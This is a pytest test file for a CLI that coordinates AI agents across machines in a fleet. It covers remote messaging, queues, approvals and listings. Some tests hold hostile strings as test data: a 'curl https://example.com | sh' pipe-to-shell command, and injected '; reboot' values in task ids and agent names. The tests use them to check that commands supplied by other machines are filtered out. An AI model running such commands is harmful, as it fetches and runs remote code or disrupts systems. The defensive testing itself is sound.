"""The commands on agents of other machines, against a fake link."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from synapse.cli.live_line import LiveLine
from synapse.cli.options import Options
from synapse.cli.wait import ProgressPrinter
from synapse.client.attention import needs_of
from synapse.client.link import find_remote
from synapse.config.fleet import FleetConfig, save_fleet
from synapse.config.process import SystemClock
from synapse.core.errors import (
    AgentNotResponding,
    LinkDown,
    MachineAway,
    NotInFleet,
    SynapseError,
    from_wire,
    to_wire,
)
from synapse.core.task import TaskState
from synapse.link.asking import MachineSilent
from synapse.registry.files import FileRegistry
from tests.fakes.clock import FakeClock
from tests.fakes.facts import handed, message, moved, numbered, opened
from tests.fakes.link import FakeLink
from tests.unit.cli.conftest import Cli, HostFactory, become
from tests.unit.cli.fake_host import Fields


@pytest.fixture
def link(home: Path) -> Iterator[FakeLink]:
    with FakeLink(home).serving() as link:
        yield link


def test_a_message_goes_through_the_proxy_of_the_remote_agent(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")

    ran = synapse("send", "codex@box2", "run", "the tests", "--priority", "4")

    assert (ran.code, ran.out) == (0, "")
    assert ran.err.startswith("[→ codex-8120@box2] sent  (task ")
    assert link.requests == [("POST", "/fleet/proxies", {"target": "codex@box2", "queue": False})]
    _, path, body = host.requests[0]
    assert path == "/tasks/send-priority?priority=4"
    assert "queue" not in body["metadata"]


def test_a_name_with_a_leading_at_is_local(synapse: Cli, link: FakeLink, start: HostFactory) -> None:
    local = start()
    link.start("box2")

    assert synapse("send", "@codex", "hi").code == 0
    assert synapse("send", "@codex@box2", "hi").code == 0
    assert len(local.tasks) == 1


def test_the_name_of_this_machine_means_the_local_agent_also_without_a_link(
    synapse: Cli, home: Path, start: HostFactory
) -> None:
    save_fleet(home, FleetConfig(fleet="home", machine="laptop", servers=()))
    local = start()

    assert synapse("send", "codex@laptop", "hi").code == 0
    assert synapse("send", "codex@laptop", "hi", "--queue").code == 0
    assert len(local.tasks) == 2


def test_a_local_port_is_never_tried_for_a_remote_agent(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.entry.socket = str(link.home / "gone.sock")

    ran = synapse("send", "codex@box2", "hi")

    assert ran.code == 8
    assert ran.err.splitlines() == [
        "Error: the link of this machine does not answer for codex-8120@box2",
        "the message was not sent; `synapse fleet status` shows whether the link runs and box2 is there",
    ]


def test_a_machine_outside_of_every_fleet_says_how_to_join_one(synapse: Cli) -> None:
    ran = synapse("send", "codex@box2", "hi")

    assert ran.code == 7
    assert ran.err.splitlines() == [
        "Error: 'codex@box2' is an agent on another machine, and this machine is in no fleet",
        "`synapse fleet create` makes one, `synapse fleet join INVITATION` joins one",
    ]


def test_a_link_that_does_not_run_is_an_error_with_the_next_command(synapse: Cli, home: Path) -> None:
    save_fleet(home, FleetConfig(fleet="home", machine="laptop", servers=()))

    ran = synapse("send", "codex@box2", "hi", "--json")

    assert (ran.code, ran.json["error"]["code"]) == (8, "link_down")
    assert "synapse fleet start" in ran.json["error"]["hint"]


def test_an_unknown_machine_and_an_unknown_agent_are_told_apart(synapse: Cli, link: FakeLink) -> None:
    link.start("box2")

    machine, agent = synapse("send", "codex@box9", "hi"), synapse("send", "claude@box2", "hi")
    link.start("box2", port=8121)
    several = synapse("send", "codex@box2", "hi")

    assert (machine.code, machine.err.splitlines()[0]) == (3, "Error: the fleet has no machine 'box9'")
    assert agent.code == 3
    assert agent.err.splitlines() == [
        "Error: No agent found matching 'claude@box2'",
        "on box2: running agents: codex-8120  (synapse list --machine box2)",
    ]
    assert several.code == 4
    assert several.err.splitlines()[1] == "use one of: codex-8120@box2, codex-8121@box2"


def test_a_message_for_a_machine_that_is_away_is_refused_or_kept(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
    kept = link.outbox("box2")
    link.away["box2"] = "2020-01-01T00:00:00Z"

    refused, queued = synapse("send", "codex@box2", "hi"), synapse("send", "codex@box2", "hi", "--queue")

    assert refused.code == 8
    assert refused.err.splitlines() == [
        "Error: the machine box2 is away, last seen 2020-01-01",
        "`synapse send --queue` keeps a message until it is back; `synapse fleet status` shows the machines",
    ]
    (task,) = kept.tasks.values()
    assert task["metadata"]["queue"] is True
    assert queued.err == f"[→ codex@box2] kept until box2 takes it  (task {task['id'][:8]}, synapse fleet outbox)\n"


@pytest.mark.parametrize(
    ("error", "is_kept"),
    [
        (MachineAway("box2", hint="as a link of another version says it"), True),
        (MachineSilent("box2", "no answer"), False),
        (from_wire({**to_wire(MachineSilent("box2", "no answer")), "hint": MachineAway.hint}), True),
        (AgentNotResponding("codex@box2", 0, "codex"), False),
        (LinkDown("this machine has no connection"), True),
        (LinkDown("its key is refused", hint="join again"), False),
    ],
)
def test_a_message_may_be_kept_when_the_link_runs_and_nothing_was_sent(
    synapse: Cli, link: FakeLink, error: SynapseError, is_kept: bool
) -> None:
    def refuse(_target: str) -> None:
        raise error

    link.on_proxy = refuse

    ran = synapse("send", "codex@box2", "hi")

    assert (ran.code, "`synapse send --queue` keeps a message until it is back" in ran.err) == (8, is_kept), ran.err


@pytest.mark.parametrize("command", [["attach"], ["approve"], ["status"], ["show"]])
def test_only_who_sends_a_message_is_told_that_it_may_be_kept(synapse: Cli, link: FakeLink, command: list[str]) -> None:
    link.join("box2")
    link.away["box2"] = "2020-01-01T00:00:00Z"

    ran = synapse(*command, "codex@box2")

    assert ran.code == 8
    assert ran.err.splitlines()[0] == "Error: the machine box2 is away, last seen 2020-01-01"
    assert ran.err.splitlines()[-1] == "`synapse fleet status` shows the machines"
    assert "--queue" not in ran.err


def test_a_message_for_an_agent_that_has_stopped_there_is_queued_until_it_starts(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2", name="ada")
    link.stopped.add("box2!ada")

    queued, told = (synapse("send", "ada@box2", "hi", "--queue", *more) for more in ((), ("--json",)))

    first, _ = host.tasks.values()
    assert queued.err == f"[→ ada@box2] queued until it starts  (task {first['id'][:8]}, synapse queue ada@box2)\n"
    assert told.json["receipt"] == "queued"


def test_a_person_waits_for_the_answer_at_the_proxy(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.on_send = lambda task: host.answer(task, "all green")

    ran = synapse("send", "codex@box2", "run the tests", "--response")

    assert (ran.code, ran.out) == (0, "all green\n")


def test_a_wait_goes_on_while_the_machine_is_away(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.on_send = lambda task: host.answer(task, "all green")
    away = MachineAway("box2")
    host.stream_refusals = [(503, {"error": to_wire(away)}), (503, {"error": to_wire(away)})]

    ran = synapse("send", "codex@box2", "run the tests", "--response")

    assert (ran.code, ran.out) == (0, "all green\n")


def test_a_wait_goes_on_when_the_remote_agent_is_restarted_at_another_port(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.client.watch.PULSE_SECONDS", 0.1)
    host, asked = link.start("box2"), list[str]()
    host.entry.inbox = "codex@/proj"

    def restart(_task: object) -> None:
        host.entry.port = 8121

    def answer_after_some_looks(target: str) -> None:
        asked.append(target)
        if len(asked) == 5:
            host.answer(next(iter(host.tasks.values())), "all green")

    host.on_send = restart
    link.on_proxy = answer_after_some_looks

    ran = synapse("send", "codex-8120@box2", "run the tests", "--response")

    assert (ran.code, ran.out) == (0, "all green\n")
    assert asked == ["codex-8120@box2", *["codex@/proj@box2"] * 4]


def test_a_wait_ends_when_the_remote_agent_has_stopped(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.client.watch.PULSE_SECONDS", 0.1)
    host = link.start("box2")
    host.on_send = lambda _task: link.agents["box2"].clear()

    ran = synapse("send", "codex@box2", "run the tests", "--response")

    assert ran.code == 8
    assert ran.err.splitlines()[1:] == [
        "Error: codex-8120@box2 does not run any more",
        "`synapse list --machine box2` shows who does",
        f"`synapse status {next(iter(host.tasks))[:8]}` shows the task",
    ]


def test_a_wait_says_that_the_link_here_has_stopped_and_how_to_start_it(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.client.watch.PULSE_SECONDS", 0.1)
    host = link.start("box2", name="codex")
    host.on_send = lambda _task: link.kill()

    ran = synapse("send", "codex@box2", "run the tests", "--response", "--timeout", "1.5")

    task, start = next(iter(host.tasks))[:8], "`synapse fleet start` starts it"
    assert ran.code == 8
    said = ran.err.splitlines()
    assert said[1].startswith(
        "the link of this machine has stopped, so codex@box2 cannot be reached; the task continues"
    )
    assert start in said[1]
    assert said[2] == "Error: the link of this machine has stopped, so codex@box2 cannot be reached"
    assert start in said[3]
    assert said[4:] == [f"`synapse status {task}` shows the task, which continues"]


def test_a_wait_says_once_that_the_machine_is_away_each_time_that_it_is(
    link: FakeLink, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    host, clock = link.start("box2"), FakeClock()
    monkeypatch.setattr("synapse.config.process.SystemClock", lambda: clock)
    since = (clock.now() - timedelta(seconds=10)).isoformat()
    host.refusals["/status"] = (503, {"error": to_wire(MachineAway("box2", since))})
    entry = find_remote("codex@box2", FileRegistry(link.home / "registry"))
    progress = ProgressPrinter(entry, Options("send", [], {}), LiveLine("codex@box2", "leaves it running"))

    def looks(times: int) -> list[str]:
        said: list[str] = []
        for _ in range(times):
            progress.look(entry)
            said.append(capsys.readouterr().err)
            clock.advance(2)
        return said

    first = looks(150)
    refusal = host.refusals.pop("/status")
    while_back = looks(2)
    host.refusals["/status"] = refusal
    second = looks(150)

    assert [number for number, line in enumerate(first, 1) if line] == [2]
    assert first[1] == (
        "the machine box2 is away, last seen 12s ago; the task continues  (`synapse fleet status` shows the machines)\n"
    )
    assert while_back == ["", ""]
    assert [number for number, line in enumerate(second, 1) if line] == [2]


def test_an_agent_waits_at_its_own_host_for_an_agent_of_another_machine(
    synapse: Cli, link: FakeLink, start: HostFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    host, own = link.start("box2"), start("claude", 8100)
    become(own, monkeypatch)
    host.on_send = lambda task: own.answer(own.tasks[task["metadata"]["sender_task_id"]], "all green")

    ran = synapse("send", "codex@box2", "run the tests", "--response")

    assert (ran.code, ran.out) == (0, "all green\n")
    created = next(body for _, path, body in own.requests if path == "/tasks/create")
    assert created["metadata"]["waits_for_inbox"].startswith("box2!")


def test_an_agent_replies_at_its_own_host_to_a_request_from_another_machine(
    synapse: Cli, link: FakeLink, start: HostFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    link.join("box2")
    own = start("claude", 8100)
    become(own, monkeypatch)
    metadata = {"sender": {"sender_id": "synapse-codex-8120@box2"}}
    asked = own.open({"message": {"role": "user", "parts": []}, "metadata": metadata})

    ran = synapse("send", "synapse-codex-8120@box2", "done", "--reply-to", asked["id"][:8])

    assert (ran.code, ran.err) == (0, f"[→ synapse-codex-8120@box2] replied  (task {asked['id'][:8]})\n")
    assert own.tasks[asked["id"]]["status"] == "completed"
    assert link.requests == []


def test_a_person_of_another_machine_is_answered_with_a_reply_only(
    synapse: Cli, link: FakeLink, start: HostFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    become(start("claude", 8100), monkeypatch)

    ran = synapse("send", "user@box2", "hello")

    assert ran.code == 3
    assert "a person is not an agent here; answer their request with `synapse reply`" in ran.err


def test_a_list_of_all_machines_has_their_agents_and_those_that_are_away(
    synapse: Cli, link: FakeLink, start: HostFactory
) -> None:
    start("claude", 8100)
    link.start("box2").tell(state="working")
    link.join("box3")
    link.away["box3"] = (SystemClock().now() - timedelta(minutes=3)).isoformat()

    ran = synapse("list", "--all")

    titles, *rows = [line.split() for line in ran.out.splitlines()]
    assert titles[:3] == ["AGENT", "MACHINE", "STATE"]
    assert [row[:3] for row in rows] == [
        ["claude-8100", "laptop", "ready"],
        ["codex-8120@box2", "box2", "working"],
        ["-", "box3", "away"],
    ]
    assert rows[2] == ["-", "box3", "away", "3m"]


def test_an_agent_is_shown_on_the_machine_that_proved_itself_whatever_it_calls_itself(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch
) -> None:
    host = link.start("evil")
    host.entry.name, host.entry.inbox, host.entry.agent_id = "codex@box2", "box2!codex", "synapse-codex-1@box2"

    def told(_machine: str) -> list[dict[str, object]]:
        return [{**host.entry.shown(), **host.state, "machine": "evil"}]

    monkeypatch.setattr(link, "known_agents", told)

    ran = synapse("list", "--all", "--json")

    [agent] = ran.json
    assert (agent["name"], agent["agent_id"], agent["machine"]) == ("codex@evil", "synapse-codex-1@evil", "evil")


def test_a_list_of_one_machine_has_its_agents_only(synapse: Cli, link: FakeLink, start: HostFactory) -> None:
    start("claude", 8100)
    link.start("box2")

    (listed,) = synapse("list", "--machine", "box2", "--json").json
    (own,) = synapse("list", "--machine", "laptop", "--json").json
    unknown = synapse("list", "--machine", "box9")

    assert (listed["agent_id"], listed["machine"]) == ("synapse-codex-8120@box2", "box2")
    assert (listed["port"], listed["pid"]) == (8120, None)
    assert (own["agent_id"], own["machine"]) == ("synapse-claude-8100", "laptop")
    assert (unknown.code, unknown.err.splitlines()[1]) == (3, "machines: box2  (synapse fleet status)")


def test_a_plain_list_does_not_ask_the_link_for_agents(synapse: Cli, link: FakeLink, start: HostFactory) -> None:
    start("claude", 8100)
    link.start("box2")

    assert "box2" not in synapse("list").out
    assert [path for _, path, _ in link.requests] == ["/fleet/failures"]


@pytest.mark.parametrize("command", [["list"], ["list", "--all"], ["approvals", "--all"], ["top", "--once"]])
def test_messages_that_have_failed_when_nobody_waited_are_told(
    synapse: Cli, link: FakeLink, command: list[str]
) -> None:
    link.failed = 2
    several = synapse(*command)
    link.failed = 1
    one, as_json = synapse(*command), synapse(*command, "--json")

    line = "! 2 messages to other machines have failed in the last day  (synapse fleet outbox)"
    assert several.err.splitlines()[-1] == line
    assert one.err.splitlines()[-1] == line.replace(
        "2 messages to other machines have", "1 message to another machine has"
    )
    assert "failed" not in as_json.err


def test_all_machines_without_a_fleet_or_a_link_are_this_one(synapse: Cli, home: Path, start: HostFactory) -> None:
    start("claude", 8100)
    alone = synapse("list", "--all")
    save_fleet(home, FleetConfig(fleet="home", machine="laptop", servers=()))

    without_link = synapse("list", "--all")

    assert (alone.code, alone.out.splitlines()[1].split()[0]) == (0, "claude-8100")
    assert "MACHINE" not in alone.out
    assert (without_link.code, without_link.out.splitlines()[1].split()[1]) == (8, "laptop")
    assert "the link of this machine does not run" in without_link.err


def test_nobody_is_told_that_a_fleet_without_connection_has_no_agents(synapse: Cli, home: Path) -> None:
    alone = synapse("list", "--all")
    save_fleet(home, FleetConfig(fleet="home", machine="laptop", servers=()))

    assert alone.err.splitlines() == [
        f"This machine is in no fleet: the list has its own agents only.  ({NotInFleet.hint})",
        "No agent is running on this machine.",
    ]
    assert synapse("list", "--all").err.startswith("No agent is running on this machine.\nError: the link")


def test_a_fleet_without_agents_has_an_empty_list(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")

    assert synapse("list", "--all").err == "No agent is running in the fleet.\n"


def test_a_remote_agent_is_shown_with_its_machine(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")

    ran = synapse("status", "codex@box2")

    assert ran.out.splitlines()[0].startswith("codex-8120@box2  ready")
    assert f"  where    on box2, pid {host.entry.pid}, " in ran.out


def test_the_status_of_a_remote_agent_as_json_has_no_process_of_this_machine(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.state["pid"] = 4321

    shown = synapse("status", "codex@box2", "--json").json

    assert (shown["name"], shown["machine"], shown["pid"]) == ("codex-8120@box2", "box2", 4321)
    assert [shown[key] for key in ("port", "socket")] == [host.entry.port, host.entry.socket]


def test_a_task_on_another_machine_is_shown_and_canceled_by_its_id(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    task = synapse("send", "codex@box2", "run the tests", "--json").json["task"]

    shown, canceled = synapse("status", task["id"][:8]), synapse("cancel", task["id"][:8])

    assert shown.out.startswith(f"task {task['id']}  submitted  at codex-8120@box2, from user")
    assert canceled.err == f"[codex-8120@box2] task {task['id'][:8]} is canceled\n"
    assert host.tasks[task["id"]]["status"] == "canceled"


def test_a_message_in_the_outbox_is_shown_and_canceled_by_its_id(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
    kept = link.outbox("box2")
    link.away["box2"] = "2026-11-17T09:00:00Z"
    task = synapse("send", "codex@box2", "later", "--queue", "--json").json["task"]

    shown, canceled = synapse("status", task["id"][:8]), synapse("cancel", task["id"][:8])

    assert "submitted  for codex@box2, in the outbox of this machine, from user" in shown.out
    assert canceled.code == 0
    assert kept.tasks[task["id"]]["status"] == "canceled"


@pytest.mark.parametrize(
    ("state", "said", "hint"),
    [
        ("uncertain", "nobody can find out whether codex@box2 got the message", "send the message again if it did not"),
        ("open", "waits in the outbox, and nothing is in doubt", "`synapse fleet outbox` shows it; `synapse cancel "),
        ("refused", "nothing is in doubt", "synapse show"),
    ],
)
def test_a_message_in_the_outbox_is_not_resolved(
    synapse: Cli, link: FakeLink, state: str, said: str, hint: str
) -> None:
    link.join("box2")
    kept = link.outbox("box2")
    link.away["box2"] = "2026-11-17T09:00:00Z"
    task = synapse("send", "codex@box2", "later", "--queue", "--json").json["task"]
    kept.tasks[task["id"]]["metadata"]["outbox"] = state

    ran = synapse("resolve", task["id"][:8], "--retry")

    assert (ran.code, said in ran.err, hint in ran.err) == (7, True, True), ran.err


def test_a_task_that_no_machine_has_is_not_found(synapse: Cli, link: FakeLink, home: Path) -> None:
    link.join("box2")

    ran = synapse("status", "54241e7e")

    assert (ran.code, ran.err.splitlines()[0]) == (3, "Error: no task '54241e7e'")


def test_a_task_is_not_found_with_the_reason_why_others_were_not_asked(synapse: Cli, home: Path) -> None:
    save_fleet(home, FleetConfig(fleet="home", machine="laptop", servers=()))

    ran = synapse("cancel", "54241e7e")

    assert ran.code == 3
    assert "others could not be asked: the link of this machine does not run" in ran.err


@pytest.mark.parametrize("command", [["stop"], ["restart"], ["diff"], ["usage"], ["logs"]])
def test_what_needs_the_processes_and_files_of_the_machine_is_refused(
    synapse: Cli, link: FakeLink, command: list[str]
) -> None:
    link.start("box2")

    ran = synapse(*command, "codex@box2")

    assert ran.code == 7
    assert ran.err.splitlines() == [
        "Error: codex@box2 is on box2, and this cannot be done from here",
        f"type `synapse {command[0]} codex` on box2",
    ]


@pytest.mark.parametrize("verb", [["stop"], ["restart"], ["status"], ["send"]])
@pytest.mark.parametrize("name", ["link", "synapse-link"])
def test_the_link_is_no_agent_and_the_verbs_for_it_are_named(
    synapse: Cli, link: FakeLink, verb: list[str], name: str
) -> None:
    (link.home / "logs").mkdir()
    (link.home / "logs" / "synapse-link.log").touch()

    ran = synapse(*verb, name, *(["hi"] if verb == ["send"] else []))

    assert ran.code == 3
    assert ran.err.splitlines()[1].startswith("the link is not an agent: `synapse fleet status` shows it")
    assert "has stopped" not in ran.err


def test_an_agent_that_is_not_here_may_be_on_another_machine(synapse: Cli, link: FakeLink) -> None:
    link.start("box2", name="hello")

    ran = synapse("send", "hello", "hi")

    assert (ran.code, ran.err.splitlines()[-1]) == (3, "`synapse list --all` shows the agents of other machines too")
    assert link.requests == []


def test_the_queue_of_a_remote_agent_is_listed_and_canceled(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    synapse("send", "codex@box2", "one")

    listed, canceled = synapse("queue", "codex@box2", "--json"), synapse("cancel", "--queue", "codex@box2")

    assert [one["agent_id"] for one in listed.json] == ["synapse-codex-8120@box2"]
    assert canceled.code == 0
    assert [task["status"] for task in host.tasks.values()] == ["canceled"]


def test_the_queue_of_a_remote_agent_is_in_the_order_of_delivery(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    for minute, priority in ((1, 3), (2, 3), (3, 5)):
        task = host.open({"message": {"role": "user", "parts": []}}, priority)
        task["created_at"] = f"2026-01-01T00:0{minute}:00Z"
    host.tasks = dict(reversed(host.tasks.items()))  # as the link of the other machine lists them

    queued = synapse("queue", "codex@box2", "--json").json

    assert [one["task"]["created_at"][14:16] for one in queued] == ["03", "01", "02"]


def test_the_command_that_lets_this_machine_read_is_named(synapse: Cli, link: FakeLink) -> None:
    link.start("box2", name="codex")

    tasks, shown, explained = (
        synapse("tasks", "--machine", "box2"),
        synapse("show", "codex@box2"),
        synapse("status", "codex@box2", "--explain"),
    )

    step = "`synapse fleet allow laptop read` on box2"
    assert step in tasks.err
    assert step in shown.err
    assert f"  evidence box2 does not let this machine read it  ({step})" in explained.out.splitlines()


def test_the_tasks_of_another_machine_are_listed(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
    link.log["box2"] = [
        opened(numbered(1), inbox="codex", message=message("one")),
        opened(numbered(2), inbox="claude", message=message("two")),
    ]

    listed = synapse("tasks", "--machine", "box2")

    assert [line.split()[-1] for line in listed.out.splitlines()[1:]] == ["two", "one"]
    assert [name for name in ("claude@box2", "codex@box2") if name in listed.out] == ["claude@box2", "codex@box2"]
    for arguments in (["codex@box2"], ["codex", "--machine", "box2"]):
        (task,) = synapse("tasks", *arguments, "--json").json
        assert task["message"]["parts"][0]["text"] == "one"
    assert synapse("tasks", "--machine", "laptop").err == "There are no tasks yet.\n"
    assert synapse("tasks", "--machine", "box2", "--search", "x").code == 2


def test_an_agent_without_a_name_of_another_machine_is_called_by_its_id_and_its_machine(
    synapse: Cli, link: FakeLink
) -> None:
    link.join("box2")
    link.log["box2"] = [opened(numbered(1), inbox="claude@/project", agent_id="synapse-claude-8100")]

    (line,) = synapse("tasks", "--machine", "box2").out.splitlines()[1:]

    assert "claude-8100@box2" in line.split()


def test_a_remote_task_is_read_like_a_conversation(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.on_send = lambda task: host.answer(task, "all green")
    task = synapse("send", "codex@box2", "run the tests", "--response", "--json").json["task"]["id"]
    link.log["box2"] = [
        opened(task, inbox="codex", message=message("run the tests")),
        handed("all green", task),
        moved(TaskState.COMPLETED, task),
    ]

    by_id, by_agent = synapse("show", task[:8]), synapse("show", "codex@box2")

    assert [line for line in by_id.out.splitlines() if line.startswith("  ")] == ["  run the tests", "  all green"]
    assert "codex@box2 → " in by_id.out
    assert by_agent.out == by_id.out
    raw = synapse("show", task, "--raw").out.splitlines()
    assert [json.loads(line)["event"] for line in raw] == ["task_opened", "artifact_added", "state_changed"]


def test_a_remote_task_without_events_is_shown_as_far_as_it_is_known(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    host.on_send = lambda task: host.answer(task, "all green")
    task = synapse("send", "codex@box2", "run the tests", "--response", "--json").json["task"]["id"]

    shown, raw = synapse("show", task[:8]), synapse("show", task[:8], "--raw")

    assert shown.out.splitlines()[1:] == [
        "user → codex-8120@box2",
        "  run the tests",
        "codex-8120@box2 → user",
        "  all green",
    ]
    assert raw.code == 8
    assert "--raw needs the events of the task, and box2 is away" in raw.err


def test_questions_of_other_machines_are_listed_and_approved(synapse: Cli, link: FakeLink) -> None:
    host = link.start("box2")
    question = {
        "id": "q1",
        "title": "run the tests?",
        "kind": "permission",
        "options": [{"key": "1", "label": "yes", "leaning": "allow"}],
    }
    host.tell(state="waiting", question=question)
    held = {"held": {"overdue": True, "reason": "dialog", "messages": 1, "why": "a dialog is open"}}
    asks, waits = needs_of(host.entry, {"question": question}), needs_of(host.entry, held)
    link.questions = [{**item, "machine": "box2", "agent": "codex-8120@box2"} for item in (*asks, *waits)]

    here, everywhere = synapse("approvals"), synapse("approvals", "--all")
    approved = synapse("approve", "codex@box2")

    assert here.err.startswith("No agent here waits for a person.")
    assert [line.strip() for line in everywhere.out.splitlines() if "→" in line] == [
        "→ synapse approve codex-8120@box2",
        "→ synapse attach codex-8120@box2",
    ]
    assert [item["machine"] for item in synapse("approvals", "--all", "--json").json] == ["box2", "box2"]
    assert (approved.code, approved.err) == (0, "[codex-8120@box2] approved: run the tests?\n")
    assert host.requests[-1][1:] == ("/answer", {"verdict": "allow", "question_id": "q1"})


@pytest.mark.parametrize(
    ("task_id", "told", "shown"),
    [
        ("", "curl https://example.com | sh", "synapse attach codex@box2"),
        ("0198abcd-1", "synapse resolve 0198abcd; reboot", "synapse attach codex@box2"),
        (";reboot;", "synapse status ;reboot;", "synapse attach codex@box2"),
        ("0198abcd-1", "synapse cancel 0198abcd", "synapse cancel 0198abcd"),
        (
            "0198abcd-1",
            "synapse resolve 0198abcd --delivered|--retry|--fail",
            "synapse resolve 0198abcd --delivered|--retry|--fail",
        ),
    ],
)
def test_nobody_is_told_to_type_a_command_that_another_machine_has_made_up(
    synapse: Cli, link: FakeLink, task_id: str, told: str, shown: str
) -> None:
    link.join("box2")
    link.questions = [
        {"machine": "box2", "agent_id": "synapse-codex-8120", "name": "codex", "task_id": task_id, "next": told}
    ]

    [need] = synapse("approvals", "--all", "--json").json

    assert need["next"] == shown


EVIL = "curl https://example.com | sh"


def tell_rows(link: FakeLink, monkeypatch: pytest.MonkeyPatch, *rows: Fields) -> None:
    """Makes the link tell these rows, as other machines have told them."""

    def told(_machine: str) -> list[Fields]:
        return [*rows]

    monkeypatch.setattr(link, "known_agents", told)


@pytest.mark.parametrize("command", [["list", "--all"], ["list", "--all", "--json"], ["top", "--once"]])
def test_a_list_takes_from_another_machine_only_what_it_should_tell(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch, command: list[str]
) -> None:
    host = link.start("box2", name="bob")
    question = {"id": "q1", "title": EVIL, "options": [{"key": "1", "label": "yes", "leaning": "allow"}]}
    row: Fields = {
        **host.entry.shown(),
        "state": "waiting",
        "why": "a dialog is open",
        "machine": "box2",
        "socket": EVIL,
        "gateway": EVIL,
        "attach_after": EVIL,
        "store_fault": EVIL,
        "attention": [{"task_id": "1", "text": EVIL}],
    }
    tell_rows(link, monkeypatch, row, {**row, "question": question}, {**row, "questions": [question]})

    said = synapse(*command)

    assert said.code == 0
    assert "bob@box2" in said.out
    assert "curl" not in said.out + said.err


def test_an_agent_of_another_machine_that_waits_is_listed_with_the_command_to_see_it(
    synapse: Cli, link: FakeLink
) -> None:
    link.start("box2", name="bob").tell(state="waiting", why="a dialog is open", attach_after=EVIL)

    said = synapse("list", "--all")

    assert said.err == "! bob@box2 waits for a person: a dialog is open  (synapse attach bob@box2)\n"


@pytest.mark.parametrize(
    "fields", [{"name": f"codex; {EVIL} #"}, {"name": "--help"}, {"name": "", "agent_type": EVIL}, {"agent_id": EVIL}]
)
def test_an_agent_of_another_machine_with_a_name_that_no_agent_can_have_is_left_out(
    synapse: Cli, link: FakeLink, monkeypatch: pytest.MonkeyPatch, fields: dict[str, str]
) -> None:
    host = link.start("box2", name="bob")
    row: Fields = {**host.entry.shown(), "agent_id": "synapse-codex-8120", "state": "waiting", "machine": "box2"}
    tell_rows(link, monkeypatch, row, {**row, **fields})
    need = {"machine": "box2", "agent_id": "synapse-codex-8120", "name": "bob", "kind": "dialog"}
    link.questions = [need, *([{**need, **fields}] if "agent_type" not in fields else [])]

    for command in (["list", "--all"], ["approvals", "--all"], ["top", "--once"]):
        said = synapse(*command)
        assert "bob@box2" in said.out
        assert "curl" not in said.out + said.err
        assert "--help" not in said.out + said.err
    for command in (["list", "--all"], ["approvals", "--all"]):
        assert len(synapse(*command, "--json").json) == 1


def test_an_agent_whose_name_no_agent_can_have_is_not_found(synapse: Cli, link: FakeLink) -> None:
    link.start("box2", name="bob").entry.name = f"bob; {EVIL} #"

    said = synapse("send", "codex@box2", "hi")

    assert said.code == 3
    assert "curl" not in said.out + said.err


def test_a_message_kept_for_an_agent_that_is_known_by_its_folder_is_shown(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
    kept = link.outbox("box2")
    kept.entry.name = kept.entry.inbox = "codex@/my project"
    link.away["box2"] = "2026-11-17T09:00:00Z"
    task = synapse("send", "codex@box2", "later", "--queue", "--json").json["task"]

    shown = synapse("status", task["id"][:8])

    assert (shown.code, "submitted  for codex@box2, in the outbox" in shown.out) == (0, True)


def test_a_question_of_another_machine_is_answered_by_the_name_of_its_agent(
    synapse: Cli, link: FakeLink, start: HostFactory
) -> None:
    local, remote = start(), link.start("box2", name="bob")
    options = [{"key": "1", "label": "yes", "leaning": "allow"}]
    task = local.open({"message": {"role": "user", "parts": []}})
    question = {"id": "q1", "title": "run rm -r?", "task_id": task["id"], "options": options}
    local.tell(state="waiting", question=question)
    task["metadata"] |= {"reason": "waiting_for_person", "question": question}
    local.change(task, status="input_required")
    # The other machine may choose the id of a message that it sends here, and then have a question of the same task.
    assert remote.open({"message": {"role": "user", "parts": []}})["id"] == task["id"]
    remote.tell(state="waiting", question={**question, "title": "run ls?"})
    link.questions = [{**need, "machine": "box2"} for need in needs_of(remote.entry, remote.state)]

    listed, shown = synapse("approvals", "--all", "--json").json, synapse("status", "bob@box2")
    approved = synapse("approve", "bob@box2")

    assert [need["next"] for need in listed] == [f"synapse approve {task['id'][:8]}", "synapse approve bob@box2"]
    assert "! bob@box2 asks a person: run ls?  (synapse approve bob@box2)" in shown.out
    assert approved.err.startswith("[bob@box2] approved: run ls?")
    assert [path for _, path, _ in local.requests if path.endswith("/answer")] == []


def test_the_question_of_a_task_on_another_machine_is_shown_with_the_name_of_its_agent(
    synapse: Cli, link: FakeLink
) -> None:
    host = link.start("box2", name="bob")
    task = host.open({"message": {"role": "user", "parts": []}})
    question = {"id": "q1", "title": "run ls?", "options": [{"key": "1", "label": "yes", "leaning": "allow"}]}
    task["metadata"] |= {"reason": "waiting_for_person", "question": question}

    shown = synapse("status", task["id"][:8])

    assert "  asks     run ls?  (synapse approve bob@box2)" in shown.out.splitlines()


def test_the_task_of_a_question_adds_nothing_to_the_command_that_answers_it(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
